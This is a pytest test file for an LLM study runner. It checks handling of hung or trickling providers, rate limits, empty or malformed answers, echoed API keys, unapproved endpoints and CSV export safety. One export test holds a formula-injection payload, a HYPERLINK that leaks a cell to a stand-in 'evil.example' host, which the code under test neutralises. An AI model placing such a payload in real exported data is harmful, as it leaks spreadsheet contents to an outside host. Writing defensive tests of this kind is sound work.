"""What a provider can do wrong, and what a shared study file can try (issue 13): trickled
bodies and silent providers, rate-limit storms, empty and malformed answers, echoed keys,
endpoints the user did not allow, formulas in exported cells. Against the fake server over
loopback HTTP."""

from __future__ import annotations

import json
import sqlite3
import time

import pandas as pd
import pytest
from runhelpers import cli, make_study, make_trials, write_study_file

from llmexp.errors import RunError
from llmexp.export import csv_safe, neutralise
from llmexp.runner import open_run, run_study
from llmexp.runner.cache import ResponseCache
from llmexp.runner.endpoints import check_endpoints
from llmexp.runner.retry import RetryPolicy
from llmexp.runner.status import RunStopped
from tests.support.fake_openai import FakeOpenAI

MODEL = "openai/fake-model"


def _params(server, **extra):
    return {MODEL: {"api_base": server.api_base, "api_key": "sk-fake-key-for-tests", **extra}}


def _policy(**kw) -> RetryPolicy:
    base = dict(max_attempts=3, initial_wait=0.01, max_wait=0.05, jitter=0.1, timeout=5.0, max_retry_after=0.5)
    return RetryPolicy(**{**base, **kw})


# ------------------------------------------------------------ deadlines and silent providers


def test_a_trickling_body_cannot_hold_an_attempt_past_its_deadline(tmp_path):
    with FakeOpenAI(fail_first={"trickle": 1}, trickle_interval=0.2) as server:  # ~300 bytes: a minute a body
        study = make_study(params=_params(server), n_units=1, levels=(1.0, 2.0))
        trials = make_trials(study)
        t0 = time.monotonic()
        res = run_study(study, trials, run_dir=tmp_path / "run", use_cache=False, progress=False, retry=_policy(timeout=0.5))
        elapsed = time.monotonic() - t0
    df = res.to_pandas()
    assert (df["status"] == "ok").all() and (df["attempts"] == 2).all()  # cut at the deadline, then answered
    assert elapsed < 10
    assert res.stats.errors.get("timeout") == len(trials)


def test_a_provider_that_never_answers_is_reported_at_the_first_round_of_timeouts(tmp_path, capsys):
    """The warning comes when the first attempts time out (litellm's timeout fires at the
    timeout, a second before the hard deadline): it used to wait for the next round, so with
    the default 120 s timeout a hanging provider showed nothing for 4 minutes."""
    with FakeOpenAI(faults={"hang": 1.0}) as server:
        study = make_study(params=_params(server), n_units=2)
        trials = make_trials(study)
        with pytest.raises(RunStopped, match="not answering"):
            run_study(study, trials, run_dir=tmp_path / "run", use_cache=False, progress=False, concurrency=3,
                      retry=_policy(timeout=0.5, hang_timeouts=100, hang_seconds=2.5, max_attempts=50))  # fmt: skip
    said = [line for line in capsys.readouterr().err.splitlines() if "is not answering" in line]
    assert len(said) == 1 and ": 3 attempts in a row timed out" in said[0], said


def test_a_provider_that_never_answers_is_stopped_in_seconds_of_its_deadline(tmp_path, capsys):
    with FakeOpenAI(faults={"hang": 1.0}) as server:
        study = make_study(params=_params(server), n_units=4, replicates=2)
        trials = make_trials(study)  # 80 calls
        t0 = time.monotonic()
        with pytest.raises(RunStopped, match="not answering") as info:
            run_study(study, trials, run_dir=tmp_path / "run", use_cache=False, progress=False, concurrency=4,
                      retry=_policy(timeout=0.2, hang_timeouts=4, max_attempts=5))  # fmt: skip
        elapsed = time.monotonic() - t0
        calls = server.total
    # without the stop: 80 trials x 5 attempts = 400 calls, each waiting out its deadline; how many
    # start before the silence counts as hanging depends on scheduling, so bound it by the trials
    assert elapsed < 12 and calls < len(trials)
    assert "not answering: " in capsys.readouterr().err  # progress said so before stopping it
    summary = info.value.results.summary()
    assert summary.status == "stopped" and summary.pending > 40


# ------------------------------------------------------------ rate limits


def test_429s_are_retried_on_their_own_budget_honouring_retry_after(tmp_path):
    with FakeOpenAI(fail_first={"429": 6}, retry_after=0.02) as server:
        study = make_study(params=_params(server), n_units=1, levels=(1.0, 2.0))
        res = run_study(study, make_trials(study), run_dir=tmp_path / "run", use_cache=False, progress=False, retry=_policy(max_attempts=2))
    df = res.to_pandas()
    assert (df["status"] == "ok").all()  # six 429s did not use up an attempt budget of two
    assert (df["attempts"] == 7).all()
    assert res.run_status().status == "complete"


def test_the_wait_on_429s_is_capped(tmp_path):
    with FakeOpenAI(faults={"429": 1.0}, retry_after=0.05) as server:
        study = make_study(params=_params(server), n_units=1, levels=(1.0,))
        res = run_study(study, make_trials(study), run_dir=tmp_path / "run", use_cache=False, progress=False,
                        retry=_policy(max_rate_limit_wait=0.3))  # fmt: skip
    row = res.to_pandas().iloc[0]
    assert row["status"] == "failed" and 3 <= row["attempts"] <= 8  # ~0.05 s apart, 0.3 s in all
    assert res.run_status().status == "partial"


# ------------------------------------------------------------ empty, malformed, echoed


def test_the_same_command_asks_answers_that_stayed_empty_again(tmp_path):
    """A provider glitch that outlasted the retries leaves the run partial, and the hint
    "run the same command" works: the next run asks exactly those trials again (they used
    to be kept as final `invalid` answers, so the run stayed partial for good)."""
    with FakeOpenAI(fail_first={"empty": 3}) as server:  # every prompt: 3 empty answers, then a real one
        study = make_study(params=_params(server), n_units=2, levels=(1.0, 2.0), name="glitch")
        trials = make_trials(study)
        run = dict(run_dir=tmp_path / "r", cache_dir=tmp_path / "cache", progress=False, retry=_policy())
        first = run_study(study, trials, **run)
        calls_first = server.total
        second = run_study(study, trials, **run)
        calls_second = server.total - calls_first
        third = run_study(study, trials, **run)
        calls_third = server.total - calls_first - calls_second
    assert first.run_status().status == "partial" and first.run_status().counts["failed"] == len(trials)
    assert calls_first == 3 * len(trials)
    assert second.run_status().status == "complete" and calls_second == len(trials)  # each asked once more
    assert second.to_pandas()["raw_text"].isin(["yes", "no"]).all()
    assert third.run_status().status == "complete" and calls_third == 0  # nothing left to ask


def test_results_check_exits_with_the_runs_status(tmp_path, capsys):
    """Scripts can ask a run how it ended: `results --check` exits as `llmexp run` did
    (plain `results` exits 0 once it printed the summary, whatever the status)."""
    with FakeOpenAI(fail_first={"empty": 3}) as server:
        study = make_study(params=_params(server), n_units=1, levels=(1.0, 2.0), name="check")
        trials = make_trials(study)
        run = dict(run_dir=tmp_path / "r", cache_dir=tmp_path / "cache", progress=False, retry=_policy())
        run_study(study, trials, **run)  # every answer stayed empty: partial
        partial = (cli(["results", tmp_path / "r"]), cli(["results", tmp_path / "r", "--check"]))
        run_study(study, trials, **run)  # asked again: complete
        complete = cli(["results", tmp_path / "r", "--check"])
    assert partial == (0, 3) and complete == 0
    assert capsys.readouterr().out.startswith("run status: partial")


def test_an_empty_answer_is_asked_again_and_never_cached(tmp_path):
    with FakeOpenAI(fail_first={"empty": 1}) as server:  # a transient glitch: the second answer is real
        study = make_study(params=_params(server), n_units=1, levels=(1.0, 2.0))
        trials = make_trials(study)
        res = run_study(study, trials, run_dir=tmp_path / "a", cache_dir=tmp_path / "cache", progress=False, retry=_policy())
    df = res.to_pandas()
    assert (df["status"] == "ok").all() and (df["attempts"] == 2).all() and df["raw_text"].isin(["yes", "no"]).all()

    with FakeOpenAI(faults={"empty": 1.0}) as server:  # always empty: kept raw as failed, not cached
        study = make_study(params=_params(server), n_units=1, levels=(1.0, 2.0), name="empty")
        trials = make_trials(study)
        res = run_study(study, trials, run_dir=tmp_path / "b", cache_dir=tmp_path / "cache2", progress=False, retry=_policy())
        first = server.total
        run_study(study, trials, run_dir=tmp_path / "c", cache_dir=tmp_path / "cache2", progress=False, retry=_policy())
        second = server.total - first
    df = res.to_pandas()
    assert (df["status"] == "failed").all() and (df["attempts"] == 3).all()
    assert df["error"].str.contains("empty answer").all() and (df["raw_text"] == "").all()
    assert res.run_status().status == "partial" and res.stats.errors == {"empty": 3 * len(trials)}  # every attempt
    assert second == first  # nothing was served from the cache: asked again
    con = sqlite3.connect(tmp_path / "cache2" / "cache.sqlite")
    assert con.execute("SELECT COUNT(*) FROM responses").fetchone()[0] == 0
    con.close()

    with FakeOpenAI() as server:  # a blank answer an older llmexp cached is asked again, then replaced
        study = make_study(params=_params(server), n_units=1, levels=(1.0,), name="old-blank")
        trials = make_trials(study)
        cache = ResponseCache(tmp_path / "cache3")
        cache.put_many([(k, MODEL, "", None, None, 1, 0, 0.0) for k in trials["cache_key"]])
        cache.close()
        first = run_study(study, trials, run_dir=tmp_path / "d", cache_dir=tmp_path / "cache3", progress=False)
        second = run_study(study, trials, run_dir=tmp_path / "e", cache_dir=tmp_path / "cache3", progress=False)
        calls = server.total
    assert calls == len(trials) and not first.to_pandas()["cache_hit"].any()
    assert second.to_pandas()["cache_hit"].all() and second.to_pandas()["raw_text"].isin(["yes", "no"]).all()


def test_a_malformed_body_is_kept_raw_and_counted(tmp_path):
    with FakeOpenAI(faults={"malformed": 1.0}) as server:
        study = make_study(params=_params(server), n_units=1, levels=(1.0, 2.0))
        res = run_study(study, make_trials(study), run_dir=tmp_path / "run", use_cache=False, progress=False, retry=_policy(max_attempts=2))
    df = res.to_pandas()
    assert (df["status"] == "failed").all()
    assert (df["raw_text"] == "<html>upstream proxy error</html>").all()  # the body as it came
    summary = res.summary()
    assert summary.failed_reasons == {"malformed": 4} and "malformed 4" in str(summary)


def test_a_key_echoed_in_an_answer_is_scrubbed_everywhere(tmp_path, monkeypatch):
    secret = "sk-test-ECHOED0123456789abcdef"
    monkeypatch.setenv("OPENAI_API_KEY", secret)
    with FakeOpenAI(responder=lambda messages: f"yes -- my key is {secret}") as server:
        study = make_study(params={MODEL: {"api_base": server.api_base}}, n_units=1, levels=(1.0, 2.0))
        res = run_study(study, make_trials(study), run_dir=tmp_path / "run", cache_dir=tmp_path / "cache", progress=False)
    df = res.to_pandas()
    assert (df["label"] == "yes").all() and df["raw_text"].str.contains(r"my key is \*\*\*").all()
    res.export(tmp_path / "out.csv")
    for path in [*(tmp_path / "run").rglob("*"), *(tmp_path / "cache").rglob("*"), tmp_path / "out.csv"]:
        if path.is_file():
            assert secret.encode() not in path.read_bytes(), path


# ------------------------------------------------------------ endpoints


def test_a_study_endpoint_that_is_not_loopback_needs_the_users_confirmation(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-0123456789")
    study = write_study_file(tmp_path, "https://collector.example.net/v1")
    assert cli(["run", study, "-o", tmp_path / "run", "--quiet"]) == 2
    err = capsys.readouterr().err
    assert "collector.example.net" in err and "API key" in err and "--allow-endpoint collector.example.net" in err
    assert not (tmp_path / "run").exists()
    assert cli(["run", study, "-o", tmp_path / "run", "--dry-run"]) == 2  # a dry run checks it too
    assert cli(["run", study, "-o", tmp_path / "run", "--dry-run", "--allow-endpoint", "collector.example.net"]) == 0
    assert cli(["run", study, "-o", tmp_path / "run", "--dry-run", "--trust-endpoints"]) == 0
    check_endpoints({"m": [{"api_base": "http://localhost:11434"}, {"base_url": "http://[::1]:8000/v1"}]}, None)
    check_endpoints({"m": [{"api_base": "http://127.0.0.5:8000/v1"}]}, [])
    with pytest.raises(RunError, match="refused"):
        check_endpoints({"m": [{"base_url": "http://10.0.0.1:8000/v1"}]}, ["10.0.0.1:9000"])  # another port
    check_endpoints({"m": [{"base_url": "http://10.0.0.1:8000/v1"}]}, ["10.0.0.1:8000"])


def test_a_new_endpoint_is_named_when_a_run_cannot_be_resumed(tmp_path, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-0123456789")
    with FakeOpenAI() as a, FakeOpenAI() as b:
        first = make_study(params={MODEL: {"api_base": a.api_base}}, n_units=1, levels=(1.0,))
        run_study(first, make_trials(first), run_dir=tmp_path / "run", use_cache=False, progress=False)
        moved = make_study(params={MODEL: {"api_base": b.api_base}}, n_units=1, levels=(1.0,))
        for dry in (True, False):  # the dry run refuses what the run refuses
            with pytest.raises(RunError, match="another endpoint"):
                run_study(moved, make_trials(moved), run_dir=tmp_path / "run", use_cache=False, progress=False, dry_run=dry)


# ------------------------------------------------------------ exports


def test_csv_exports_neutralise_formulas_and_keep_numbers(tmp_path):
    assert [neutralise(v) for v in ("=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx", "-0.5", "+3", "1e5", "yes", 3, None)] == [
        "'=1+1", "'+SUM(A1)", "'-2+3", "'@cmd", "'\tx", "'\rx", "-0.5", "+3", "1e5", "yes", 3, None,
    ]  # fmt: skip
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"yes")'
    with FakeOpenAI(responder=lambda messages: evil) as server:
        study = make_study(params=_params(server), n_units=1, levels=(1.0, 2.0))
        res = run_study(study, make_trials(study), run_dir=tmp_path / "run", use_cache=False, progress=False)
    assert cli(["results", tmp_path / "run", "--export", tmp_path / "out.csv"]) == 0
    csv = pd.read_csv(tmp_path / "out.csv")
    assert (csv["raw_text"] == "'" + evil).all()
    assert csv["attempts"].dtype.kind == "i" and csv["cost"].dtype.kind == "f"  # numbers stay numbers
    res.export(tmp_path / "out.parquet")
    assert (pd.read_parquet(tmp_path / "out.parquet")["raw_text"] == evil).all()  # parquet keeps the value
    frame = csv_safe(pd.DataFrame({"=x": ["@a", "b"], "n": [-1, 2]}))
    assert list(frame.columns) == ["'=x", "n"] and list(frame["=x".join(["'", ""])]) == ["'@a", "b"] and list(frame["n"]) == [-1, 2]
    assert json.loads(open_run(tmp_path / "run").to_pandas().to_json(orient="records"))[0]["raw_text"] == evil
